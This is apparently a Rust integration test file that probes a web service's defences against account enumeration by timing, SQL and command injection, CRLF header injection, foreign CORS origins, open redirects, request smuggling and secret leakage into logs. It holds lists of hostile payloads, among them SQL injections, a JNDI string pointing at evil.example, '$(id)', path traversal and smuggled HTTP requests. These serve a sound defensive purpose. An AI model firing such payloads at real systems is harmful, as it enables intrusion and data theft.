//! What an attacker tries first, where no slice is the place for it: telling accounts apart by time, injections, header
//! lines, foreign origins, slow and ambiguous requests, and a log that gives something away. `docs/SECURITY.md` names these
//! tests beside those of the slices.

use crate::{
    auth::{GOOD, email, enter, enter_and_sign_in, get, me, post, sign_in},
    harness::{START, TestApp},
    mails::letter,
};
use actix_web::http::Method;
use madoguchi::{access::Role, app::AppOptions};
use serde_json::{Value, json};
use sqlx::{ConnectOptions, postgres::PgConnectOptions};
use std::{
    io::Read,
    net::SocketAddr,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::LazyLock,
    time::{Duration, Instant},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};
use uuid::Uuid;

/// `docs/SECURITY.md` claims nothing by a test that is not there.
#[test]
fn the_page_names_tests_that_exist() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let page = std::fs::read_to_string(root.join("docs/SECURITY.md")).unwrap();
    let named: Vec<_> = page
        .split('`')
        .filter_map(|text| text.split_once("::"))
        .filter(|(_, test)| test.contains('_'))
        .collect();
    assert!(named.len() > 100, "the page has a test for most points");
    for (module, test) in named {
        let file = match module.ends_with(".rs") {
            true => root.join("src").join(module),
            false => root.join("tests/api").join(format!("{module}.rs")),
        };
        let code = std::fs::read_to_string(&file).unwrap_or_else(|_| panic!("{file:?}"));
        assert!(code.contains(&format!("fn {test}(")), "{module}::{test}");
    }
}

// --------------------------------------------------------------------------------------------- who is here, by time

/// Rounds of each kind; medians are compared, so that what else the machine does counts little.
const ROUNDS: usize = 41;

fn median(mut times: Vec<Duration>) -> Duration {
    times.sort_unstable();
    times[times.len() / 2]
}

/// Half of the one is less than the other, give or take what a busy machine makes of some milliseconds.
fn assert_alike(what: &str, one: Vec<Duration>, other: Vec<Duration>) {
    let (one, other) = (median(one), median(other));
    let slack = Duration::from_millis(5);
    assert!(
        one / 2 < other + slack && other / 2 < one + slack,
        "{what}: {one:?} and {other:?}"
    );
}

/// Every question between the two is another one, from another place, so that no throttle answers for the program.
async fn times(app: &TestApp, path: &str, body: impl Fn(String) -> Value) -> [Vec<Duration>; 2] {
    let mut times = [Vec::new(), Vec::new()];
    for round in 0..ROUNDS {
        for (kind, name) in [format!("known{round}"), format!("nobody{round}")]
            .into_iter()
            .enumerate()
        {
            let call = app
                .as_nobody()
                .post(path, body(email(&name)))
                .coming_from(&format!("198.51.100.{}", 2 * round + kind));
            let start = Instant::now();
            let status = call.await.status;
            times[kind].push(start.elapsed());
            assert!([204, 401].contains(&status), "{status}");
        }
    }
    times
}

/// The work beside the hash, which tests make cheap; `auth::password` has a test of the hash itself.
#[actix_web::test]
async fn time_tells_nobody_who_has_an_account() {
    let app = TestApp::start().await;
    for round in 0..ROUNDS {
        enter(&app, &format!("known{round}"), Role::Operator).await;
    }
    let [known, unknown] = times(
        &app,
        "/auth/login",
        |email| json!({ "email": email, "password": "wrong" }),
    )
    .await;
    assert_alike("sign-in", known, unknown);
    let [known, unknown] = times(
        &app,
        "/auth/password-reset",
        |email| json!({ "email": email }),
    )
    .await;
    assert_alike("password reset", known, unknown);
}

// ------------------------------------------------------------------------------------------------------- injections

/// What scanners send.
const HOSTILE: &[&str] = &[
    "' or '1'='1",
    "'; drop table case_file; --",
    "\" or \"\"=\"",
    "1); delete from app_user; --",
    "\\'; select pg_sleep(5); --",
    "' union select password_hash from app_user --",
    "%' or name like '%",
    "$1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "`id`",
    "$(id)",
    "%s%s%n",
];

#[actix_web::test]
async fn injected_statements_are_words() {
    let app = TestApp::start().await;
    let (operator, admin) = (app.as_operator(), app.as_admin());
    app.make_case().await;
    // Both are entered with their first request.
    for client in [&operator, &admin] {
        client.get("/me").await.expect(200);
    }
    let started = Instant::now();
    for hostile in HOSTILE {
        let q: String = form_urlencoded::byte_serialize(hostile.as_bytes()).collect();
        let before = app.count("case_file").await;
        let users = app.count("app_user").await;
        for path in [
            format!("/cases?q={q}"),
            format!("/enterprises?q={q}"),
            format!("/callers?email={q}"),
            format!("/callers?phone={q}"),
            format!("/managers?q={q}"),
            format!("/places?address={q}"),
            format!("/cases?cursor={q}"),
            format!("/cases/by-number/{}", q.replace('+', "%20")),
        ] {
            let answer = operator.get(&path).await;
            assert!([200, 404, 422].contains(&answer.status), "{path}");
            // A condition that always holds would find the case that is there.
            let found = answer.json["items"].as_array().map_or(0, Vec::len);
            assert!(found == 0 || !hostile.contains('\''), "{path}: {found}");
        }
        // What is no word of a list is said back to whoever wrote it, where `contract` would take a statement for ours.
        if !hostile.contains("select") {
            for field in ["sort", "status"] {
                let refused = operator.get(format!("/cases?{field}={q}")).await;
                refused.problem("validation");
            }
        }
        let found = admin.get(format!("/users?q={q}")).await.expect(200);
        let all = app.count("app_user").await;
        assert!((found.items().len() as i64) < all, "{hostile}");
        // As a text it is kept to the letter.
        let mut request = app.case_request();
        request["subject"] = json!(hostile);
        request["description"] = json!(hostile);
        let made = operator.post("/cases", request).await.expect(201);
        let read = operator
            .get(format!("/cases/{}", made.id()))
            .await
            .expect(200);
        assert_eq!(
            (&read["subject"], &read["description"]),
            (&json!(hostile), &json!(hostile))
        );
        assert_eq!(app.count("case_file").await, before + 1);
        assert_eq!(app.count("app_user").await, users);
    }
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "something slept"
    );
}

/// A line break in what becomes a header: of a mail, of an answer.
#[actix_web::test]
async fn a_line_break_makes_no_header() {
    let app = TestApp::start().await;
    let (operator, case) = (app.as_operator(), app.make_case().await);
    let broken = [
        "件名\r\nBcc: all@evil.example",
        "件名\nX: y",
        "件名\rX: y",
        "件名\u{2028}X: y",
        "件名\u{85}X: y",
    ];
    for text in broken {
        let mut request = app.case_request();
        request["subject"] = json!(text);
        operator
            .post("/cases", request)
            .await
            .invalid(&["/subject"]);
        let message = json!({ "subject": text, "body": "本文" });
        operator
            .post(format!("/cases/{}/messages", case.id()), message)
            .await
            .invalid(&["/subject"]);
        let mut request = app.case_request();
        request["contacts"][0]["name"] = json!(text);
        operator
            .post("/cases", request)
            .await
            .invalid(&["/contacts/0/name"]);
    }
    let to =
        json!({ "to": "a@example.jp\r\nBcc: b@evil.example", "confirmed": true, "body": "本文" });
    operator
        .post(format!("/cases/{}/messages", case.id()), to)
        .await
        .invalid(&["/to"]);
    // From a mail's subject, where it comes in disguise, into the mail that answers it.
    let hidden =
        data_encoding::BASE64.encode("相談\r\nBcc: all@evil.example\r\n\r\nbody".as_bytes());
    let mail = letter("kudo@example.co.jp", &format!("=?UTF-8?B?{hidden}?="));
    let kept = app.receive(&mail).await;
    let case = app.case_of(&kept).await;
    operator
        .post(
            format!("/cases/{}/messages", case.id()),
            json!({ "body": "ご回答です。" }),
        )
        .await
        .expect(201);
    app.advance(chrono::TimeDelta::minutes(10));
    app.run_jobs().await;
    let sent = app.outbox();
    assert!(sent.len() >= 2, "an acknowledgement and an answer");
    for mail in sent {
        let text = String::from_utf8_lossy(&mail).replace("\r\n", "\n");
        let head = text.split("\n\n").next().unwrap().to_lowercase();
        assert!(!head.contains("\nbcc:"), "{head}");
    }
    // Into `Location` and `ETag` goes nothing that anybody typed; what is typed into a path or a key comes back in none.
    let path = "/cases/x%0d%0aSet-Cookie:%20a=b";
    let answer = operator.get(path).await.problem("not-found");
    assert_eq!(answer.header("set-cookie"), None);
}

// ---------------------------------------------------------------------------------------------------------- browsers

static BEHIND_TLS: LazyLock<AppOptions> = LazyLock::new(|| AppOptions {
    https: true,
    cors_origins: vec!["https://front.example.jp".to_owned()],
    ..AppOptions::default()
});

#[actix_web::test]
async fn only_the_named_origins_are_let_in() {
    let app = TestApp::start_with(&BEHIND_TLS).await;
    let ask = |origin: &str| {
        app.as_nobody()
            .call(Method::OPTIONS, "/cases")
            .header("origin", origin)
            .header("access-control-request-method", "POST")
            .header(
                "access-control-request-headers",
                "authorization,content-type",
            )
    };
    let allowed = ask("https://front.example.jp").await;
    assert_eq!(allowed.status, 200);
    assert_eq!(
        allowed.header("access-control-allow-origin"),
        Some("https://front.example.jp")
    );
    for foreign in [
        "https://evil.example",
        "https://front.example.jp.evil.example",
        "http://front.example.jp",
        "https://front.example.jp:8443",
        "null",
    ] {
        let refused = ask(foreign).await;
        assert_eq!(
            refused.header("access-control-allow-origin"),
            None,
            "{foreign}"
        );
        let read = app
            .as_operator()
            .get("/desks")
            .header("origin", foreign)
            .await;
        assert_eq!(
            read.header("access-control-allow-origin"),
            None,
            "{foreign}"
        );
    }
    // Without credentials: no browser sends the cookie, and no answer to one is shown to another origin's script.
    let read = app
        .as_operator()
        .get("/desks")
        .header("origin", "https://front.example.jp")
        .await
        .expect(200);
    for answer in [&allowed, &read] {
        assert_eq!(answer.header("access-control-allow-credentials"), None);
    }
    // A browser that came once by TLS never comes without it.
    assert_eq!(
        read.header("strict-transport-security"),
        Some("max-age=31536000; includeSubDomains")
    );
    // And without names, to nobody.
    let closed = TestApp::start().await;
    let read = closed
        .as_operator()
        .get("/desks")
        .header("origin", "https://front.example.jp")
        .await
        .expect(200);
    assert_eq!(read.header("access-control-allow-origin"), None);
    assert_eq!(read.header("strict-transport-security"), None);
}

#[actix_web::test]
async fn nothing_redirects_elsewhere() {
    let app = TestApp::start().await;
    for path in [
        "//docs",
        "//docs?next=https://evil.example",
        "////evil.example",
        "//docs//evil.example",
        "//sign-in?next=https://evil.example",
        "//sign-in?next=//evil.example",
        "//public/x?next=https://evil.example",
        "//%5Cevil.example",
    ] {
        let answer = app.as_nobody().get(path).await;
        if let Some(location) = answer.header("location") {
            assert_eq!((answer.status, location), (307, "/docs/"), "{path}");
        } else {
            assert!(!(300..400).contains(&answer.status), "{path}");
        }
    }
}

// -------------------------------------------------------------------------------------------------- sessions, stolen

#[actix_web::test]
async fn sessions_are_seen_and_ended() {
    let app = TestApp::start().await;
    let here = enter_and_sign_in(&app, "hanako", Role::Operator).await;
    let (lost, old) = (sign_in(&app, "hanako").await, sign_in(&app, "hanako").await);
    let other = enter_and_sign_in(&app, "taro", Role::Operator).await;
    let list = get(&app, "/me/sessions", &here.access).await.expect(200);
    assert_eq!(list.items().len(), 3);
    let this: Vec<_> = list
        .items()
        .iter()
        .map(|item| &item["is_this_one"])
        .collect();
    assert_eq!(this, [true, false, false]);
    assert_eq!(list.items()[0]["created_at"], START);
    let page = get(&app, "/me/sessions?limit=2", &here.access)
        .await
        .expect(200);
    let next = page["next_cursor"].as_str().unwrap();
    let rest = get(&app, &format!("/me/sessions?cursor={next}"), &here.access)
        .await
        .expect(200);
    assert_eq!(rest.items(), &list.items()[2..]);

    // One of them; with the password only, and only one's own.
    let second = list.items()[1]["id"].clone();
    let end = |token: &str, password: &str, id: Value| {
        let mut body = json!({ "current_password": password });
        if !id.is_null() {
            body["session_id"] = id;
        }
        post(&app, "/me/sessions/end", token, body)
    };
    end(&here.access, "wrong", second.clone())
        .await
        .invalid(&["/current_password"]);
    end(&other.access, GOOD, second.clone())
        .await
        .problem("not-found");
    end(&here.access, GOOD, json!(Uuid::now_v7()))
        .await
        .problem("not-found");
    assert_eq!(me(&app, &lost.access).await, 200);
    end(&here.access, GOOD, second).await.expect(204);
    assert_eq!(me(&app, &lost.access).await, 401);
    app.as_nobody()
        .post("/auth/refresh", json!({ "refresh_token": lost.refresh }))
        .await
        .problem("unauthenticated");
    assert_eq!(me(&app, &old.access).await, 200);
    // All the others.
    end(&here.access, GOOD, Value::Null).await.expect(204);
    assert_eq!(
        (me(&app, &old.access).await, me(&app, &here.access).await),
        (401, 200)
    );
    let list = get(&app, "/me/sessions", &here.access).await.expect(200);
    assert_eq!(list.items().len(), 1);
    // What nobody prolonged for three days is over, and not listed.
    app.advance(chrono::TimeDelta::days(4));
    let anew = sign_in(&app, "hanako").await;
    let list = get(&app, "/me/sessions", &anew.access).await.expect(200);
    assert_eq!(list.items().len(), 1);

    // An admin ends all of them; nobody else does.
    let person = id_of(&app, "hanako").await;
    let path = format!("/users/{person}/end-sessions");
    post(&app, &path, &anew.access, json!({}))
        .await
        .problem("forbidden");
    app.as_admin().post(&path, json!({})).await.expect(204);
    assert_eq!(me(&app, &anew.access).await, 401);
    let nobody = format!("/users/{}/end-sessions", Uuid::now_v7());
    app.as_admin()
        .post(nobody, json!({}))
        .await
        .problem("not-found");
    sign_in(&app, "hanako").await;
    let ended: i64 =
        sqlx::query_scalar("select count(*) from audit_event where kind = 'sessions_ended'")
            .fetch_one(&mut app.sql().await)
            .await
            .unwrap();
    assert_eq!(ended, 3);
}

/// Whoever signs in anew in the same browser leaves no session behind that nobody can end; a foreign page ends none.
#[actix_web::test]
async fn a_new_sign_in_ends_the_one_of_the_same_browser() {
    let app = TestApp::start().await;
    enter(&app, "hanako", Role::Operator).await;
    let credentials = json!({ "email": email("hanako"), "password": GOOD });
    let sign_in = |cookie: &str, origin: &str| {
        app.as_nobody()
            .post("/auth/login?session=cookie", credentials.clone())
            .header("cookie", cookie)
            .header("origin", origin)
    };
    let ours = "http://localhost:8080";
    let first = sign_in("a=b", ours).await.expect(200);
    let token = first["access_token"].as_str().unwrap();
    let cookie = first
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap();
    sign_in(cookie, "https://evil.example").await.expect(200);
    assert_eq!(me(&app, token).await, 200);
    let second = sign_in(cookie, ours).await.expect(200);
    assert_eq!(me(&app, token).await, 401);
    assert_eq!(
        me(&app, second["access_token"].as_str().unwrap()).await,
        200
    );
}

async fn id_of(app: &TestApp, name: &str) -> Uuid {
    sqlx::query_scalar("select id from app_user where email = $1")
        .bind(email(name))
        .fetch_one(&mut app.sql().await)
        .await
        .unwrap()
}

// --------------------------------------------------------------------------------------------------------- the wire

/// Sends these bytes and reads until the server closes, or half a minute has passed.
async fn exchange(address: SocketAddr, bytes: &[u8]) -> String {
    let mut stream = TcpStream::connect(address).await.unwrap();
    // It may close before it has read everything.
    let _ = stream.write_all(bytes).await;
    let mut answer = Vec::new();
    let _ = timeout(Duration::from_secs(30), stream.read_to_end(&mut answer)).await;
    String::from_utf8_lossy(&answer).into_owned()
}

/// To name every faulty field, a body is read again for each; of a large one, only so often as it costs no more than a sign-in.
#[actix_web::test]
async fn a_body_of_a_thousand_faults_is_not_read_a_thousand_times() {
    let app = TestApp::start().await;
    let faults = async |number: usize| {
        let fields = (0..number).map(|n| (format!("field{n:05}"), json!(n)));
        let body = Value::Object(fields.collect());
        let refused = app.as_nobody().post("/auth/login", body).await;
        refused.problem("validation").pointers().len()
    };
    // With the two that are missing.
    assert_eq!(faults(30).await, 32);
    assert_eq!(faults(1000).await, 50);
    assert!((1..20).contains(&faults(25_000).await));
}

/// Where two programs could disagree about where a request ends, it is no request, and nothing behind it is one.
#[actix_web::test]
async fn ambiguous_requests_are_no_requests() {
    let app = TestApp::start_with_sockets().await;
    let smuggled = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";
    for head in [
        "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        "Content-Length: 5\r\nContent-Length: 6\r\n",
        "Content-Length: +5\r\n",
        "Content-Length: -5\r\n",
        "Transfer-Encoding: chunked, identity\r\n",
        "Transfer-Encoding: xchunked\r\n",
    ] {
        let request = format!(
            "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head}\r\n0\r\n\r\n{smuggled}"
        );
        let answer = exchange(app.address(), request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 400 "), "{head}: {answer}");
        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "{head}: {answer}");
    }
    let many = format!(
        "GET /healthz HTTP/1.1\r\nHost: x\r\nX: {}\r\n\r\n",
        "a".repeat(300_000)
    );
    let answer = exchange(app.address(), many.as_bytes()).await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 4"),
        "{answer}"
    );
}

// -------------------------------------------------------------------------------- the program itself, and what it says

/// The program as an office runs it, with its log in a file.
struct Program {
    child: Child,
    folder: PathBuf,
    address: SocketAddr,
}

impl Program {
    async fn start(app: &TestApp) -> Self {
        let folder =
            PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("serve-{}", Uuid::now_v7()));
        std::fs::create_dir_all(&folder).unwrap();
        let log = std::fs::File::create(folder.join("log")).unwrap();
        let url = |options: &PgConnectOptions| options.to_url_lossy().to_string();
        // Free a moment ago; another process could take it, and the test would say so.
        let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let address = free.local_addr().unwrap();
        drop(free);
        let child = Command::new(env!("CARGO_BIN_EXE_madoguchi"))
            .args([
                "serve",
                "--no-migrate",
                "--no-worker",
                "--listen",
                &address.to_string(),
            ])
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap())
            .env("DATABASE_URL", url(&app.connections.program))
            .env("DATABASE_OWNER_URL", url(&app.connections.owner))
            .env("DATABASE_READER_URL", url(&app.connections.reader))
            .env("MADOGUCHI_DATA_DIR", &folder)
            .env("MADOGUCHI_LOG_FORMAT", "json")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        let program = Self {
            child,
            folder,
            address,
        };
        for _ in 0..600 {
            if TcpStream::connect(address).await.is_ok() {
                return program;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("it does not listen: {}", program.log());
    }

    fn log(&self) -> String {
        let mut log = String::new();
        let mut file = std::fs::File::open(self.folder.join("log")).unwrap();
        file.read_to_string(&mut log).unwrap();
        log
    }

    async fn ask(&self, method: &str, path: &str, token: &str, body: &str) -> (u16, Value) {
        let head = match token {
            "" => String::new(),
            token => format!("Authorization: Bearer {token}\r\n"),
        };
        let request = format!(
            "{method} /api/v1{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n{head}\
             Content-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let answer = exchange(self.address, request.as_bytes()).await;
        let (head, body) = answer.split_once("\r\n\r\n").unwrap_or_default();
        let status = head.split(' ').nth(1).and_then(|text| text.parse().ok());
        (
            status.unwrap_or_else(|| panic!("{path}: {answer}")),
            serde_json::from_str(body).unwrap_or_default(),
        )
    }
}

impl Drop for Program {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

#[actix_web::test]
async fn the_log_gives_nobody_and_no_secret_away() {
    let app = TestApp::start().await;
    enter(&app, "tsugawa", Role::Operator).await;
    let person = id_of(&app, "tsugawa").await;
    let program = Program::start(&app).await;
    let sign_in =
        |email: &str, password: &str| json!({ "email": email, "password": password }).to_string();

    let known = email("tsugawa");
    for (email, password) in [
        (known.as_str(), "geheim-Wort-1"),
        ("unbekannt@kokyaku.example", "geheim-Wort-2"),
    ] {
        let (status, _) = program
            .ask("POST", "/auth/login", "", &sign_in(email, password))
            .await;
        assert_eq!(status, 401);
    }
    let (status, session) = program
        .ask("POST", "/auth/login", "", &sign_in(&known, GOOD))
        .await;
    assert_eq!(status, 200);
    let text = |name: &str| session[name].as_str().unwrap().to_owned();
    let (token, refresh) = (text("access_token"), text("refresh_token"));
    let mut case = app.case_request();
    case["subject"] = json!("蠣崎漁業の件");
    case["enterprise"]["name"] = json!("蠣崎漁業株式会社");
    case["contacts"] = json!([{
        "role": "primary", "name": "蠣崎 倫太郎", "phone": "017-555-0134", "email": "rintaro@kakizaki.example"
    }]);
    let (status, made) = program
        .ask("POST", "/cases", &token, &case.to_string())
        .await;
    assert_eq!(status, 201, "{made:#}");
    let q: String = form_urlencoded::byte_serialize("蠣崎".as_bytes()).collect();
    let asked = [
        ("GET", format!("/cases?q={q}"), 200),
        ("GET", "/callers?phone=017-555-0134".to_owned(), 200),
        (
            "GET",
            "/callers?email=rintaro%40kakizaki.example".to_owned(),
            200,
        ),
        ("GET", "/cases?colour=geheim-Wort-3".to_owned(), 422),
        ("GET", "/users".to_owned(), 403),
        ("GET", "/cases/geheim-Wort-4".to_owned(), 404),
    ];
    for (method, path, expected) in &asked {
        assert_eq!(
            program.ask(method, path, &token, "").await.0,
            *expected,
            "{path}"
        );
    }
    let refusals = [
        (
            "/auth/refresh",
            json!({ "refresh_token": refresh }).to_string(),
            200,
        ),
        (
            "/auth/refresh",
            json!({ "refresh_token": refresh }).to_string(),
            401,
        ),
        (
            "/auth/password-reset",
            json!({ "email": known }).to_string(),
            204,
        ),
        ("/auth/login", "{\"email\": \"geheim-Wort-5".to_owned(), 400),
        (
            "/auth/login",
            json!({ "email": known, "passwort": "geheim-Wort-6" }).to_string(),
            422,
        ),
    ];
    for (path, body, expected) in &refusals {
        assert_eq!(
            program.ask("POST", path, "", body).await.0,
            *expected,
            "{path} {body}"
        );
    }
    assert_eq!(
        program
            .ask("GET", "/me", "mdg_geheimes-Token-7", "")
            .await
            .0,
        401
    );
    exchange(
        program.address,
        b"GET /public/geheimes-Token-8 HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: geheimes-Token-9\r\n\r\n",
    )
    .await;

    let log = program.log();
    for secret in [
        "geheim",
        "tsugawa",
        "unbekannt",
        "kokyaku",
        GOOD,
        &token,
        &refresh,
        "蠣崎",
        "倫太郎",
        "rintaro",
        "kakizaki",
        "017-555-0134",
        "175550134",
        "Bearer",
        "argon2",
        "postgres://",
    ] {
        assert!(!log.contains(secret), "{secret} stands in the log:\n{log}");
    }
    // What it is for: each line says when and what, each request has its number, and refused sign-ins say whose they were.
    let lines: Vec<Value> = log
        .lines()
        .map(|line| serde_json::from_str(line).expect(line))
        .collect();
    assert!(lines.iter().all(|line| {
        line["timestamp"]
            .as_str()
            .is_some_and(|at| at.ends_with('Z'))
    }));
    let of = |message: &'static str| {
        let all = lines.iter().map(|line| &line["fields"]);
        all.filter(move |fields| fields["message"] == message)
    };
    assert!(of("request").all(|line| line["request.id"].is_string()));
    let tries: Vec<_> = of("sign-in")
        .map(|line| (line["sign_in.result"].clone(), line["request.user"].clone()))
        .collect();
    assert_eq!(
        tries,
        [
            (json!("refused"), json!(person)),
            (json!("refused"), Value::Null),
            (json!("accepted"), json!(person)),
        ]
    );
    let forbidden = of("request")
        .filter(|line| line["response.status"] == 403 && line["request.user"] == json!(person));
    assert_eq!(forbidden.count(), 1, "who was refused what can be found");
    assert!(lines.iter().any(|line| {
        line["fields"]["message"]
            .as_str()
            .is_some_and(|text| text.contains("came a second time"))
    }));
}

/// A head that never ends, and a body that never comes: each holds a connection, and only for so long.
#[actix_web::test]
async fn slow_requests_are_cut_off() {
    let app = TestApp::start().await;
    let program = Program::start(&app).await;
    let slow = async |bytes: &[u8]| {
        let mut stream = TcpStream::connect(program.address).await.unwrap();
        stream.write_all(bytes).await.unwrap();
        let (start, mut answer) = (Instant::now(), Vec::new());
        let end = timeout(Duration::from_secs(60), stream.read_to_end(&mut answer)).await;
        assert!(end.is_ok(), "it waits for ever");
        (
            start.elapsed().as_secs(),
            String::from_utf8_lossy(&answer).into_owned(),
        )
    };
    let body = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{";
    let (head, body) = tokio::join!(slow(b"GET /healthz HTTP/1.1\r\nHost: "), slow(body));
    assert!(
        head.0 <= 15 && (head.1.is_empty() || head.1.starts_with("HTTP/1.1 408 ")),
        "{head:?}"
    );
    assert!(
        body.0 <= 45 && body.1.starts_with("HTTP/1.1 503 "),
        "{body:?}"
    );
}
